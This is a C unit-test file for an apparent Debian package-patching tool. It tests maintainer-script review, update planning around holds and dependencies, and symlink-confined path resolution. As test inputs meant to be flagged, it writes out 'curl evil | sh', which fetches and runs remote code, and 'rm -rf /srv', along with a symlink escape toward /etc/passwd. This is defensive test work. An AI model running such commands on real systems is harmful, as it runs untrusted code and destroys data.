#include <string.h>

#include "patch/dpkg_db.h"
#include "patch/plan.h"
#include "patch/root.h"
#include "patch/script.h"
#include "test.h"

static struct script_review review(struct arena *arena, const char *text)
{
    struct script_review out;

    script_review(arena, "x", SCRIPT_POSTINST, slice_of(text), &out);
    return out;
}

TEST(scripts_of_known_blocks_only)
{
    struct arena *arena = arena_new();
    struct script_review r =
        review(arena, "#!/bin/sh\nset -e\n# Automatically added by dh_installdeb/13\n"
                      "dpkg-maintscript-helper rm_conffile /etc/x 1.2\\~ -- \"$@\"\n"
                      "# End automatically added section\nexit 0\n");
    assert_true(r.known);
    assert_int_equal(r.action_count, 1);
    assert_int_equal(r.actions[0].verb, DO_NOT_BEFORE);
    assert_string_equal(r.actions[0].a, "1.2~");
    arena_free(arena);
}

TEST(scripts_that_nobody_reviewed)
{
    struct arena *arena = arena_new();
    assert_false(review(arena, "#!/bin/sh\nrm -rf /srv\n").known);
    assert_false(review(arena, "# Automatically added by dh_x/1\ncurl evil | sh\n"
                               "# End automatically added section\n")
                     .known);
    assert_false(review(arena, "# Automatically added by dh_x/1\n"
                               "deb-systemd-helper enable $(id) >/dev/null || true\n"
                               "# End automatically added section\n")
                     .known);
    assert_true(review(arena, "#!/bin/sh\nset -e\n# only words\n").known);
    arena_free(arena);
}

static struct dpkg_db database(struct arena *arena, const char *text)
{
    struct dpkg_db db;
    struct error err = {0};

    assert_true(dpkg_status_parse(arena, slice_of(text), &db, &err));
    return db;
}

static struct candidate candidate(const char *name, const char *version, const char *source,
                                  const char *depends)
{
    return (struct candidate){.package = {.name = name,
                                          .version = version,
                                          .arch = "amd64",
                                          .source = source,
                                          .filename = "f",
                                          .sha256 = "s",
                                          .depends = depends,
                                          .phased = 100}};
}

#define STANZA(name, version, more)                                                                \
    "Package: " name "\nStatus: install ok installed\nArchitecture: amd64\nVersion: " version      \
    "\n" more "\n"

TEST(plan_moves_source_sets_and_keeps_back)
{
    struct arena *arena = arena_new();
    struct dpkg_db db =
        database(arena, STANZA("liba", "1-1", "Source: a\n") STANZA("a-bin", "1-1", "Source: a\n")
                            STANZA("b", "1-1", "") "Package: c\nStatus: hold ok installed\n"
                                                   "Architecture: amd64\nVersion: 1-1\n\n");
    struct candidate list[] = {
        candidate("liba", "1-2", "a", ""), candidate("a-bin", "1-2", "a", "liba (= 1-2)"),
        candidate("b", "1-2", "b", "newthing"), candidate("c", "1-2", "c", "")};
    struct plan plan;
    plan_make(arena, &db, list, 4, NULL, 0, &plan);
    assert_int_equal(plan.count, 2);
    assert_string_equal(plan.items[0].old->name, "a-bin");
    assert_int_equal(plan.refusal_count, 2);
    assert_string_equal(plan.refusals[0].rule, "R2-dependency");
    assert_string_equal(plan.refusals[1].rule, "R2-hold");

    struct plan_refusal held = {"liba", "unreviewed-script", "x"};
    plan_make(arena, &db, list, 4, &held, 1, &plan);
    assert_int_equal(plan.count, 0); /* the whole source set stays */
    arena_free(arena);
}

TEST(paths_resolve_inside_the_root)
{
    struct arena *arena = arena_new();
    struct root root;
    root_init(&root, arena, NULL);
    root_put_symlink(&root, "lib", "usr/lib");
    root_put_symlink(&root, "out", "../../../etc");
    root_put_symlink(&root, "loop", "loop");
    root_put_file(&root, "usr/lib/x", slice_of("x"), 0644);
    assert_string_equal(root_resolve(&root, arena, "/lib/x", false), "usr/lib/x");
    assert_string_equal(root_resolve(&root, arena, "/out/passwd", false), "etc/passwd");
    assert_null(root_resolve(&root, arena, "/loop/x", false));
    assert_non_null(root_lookup(&root, "/lib/x"));
    arena_free(arena);
}
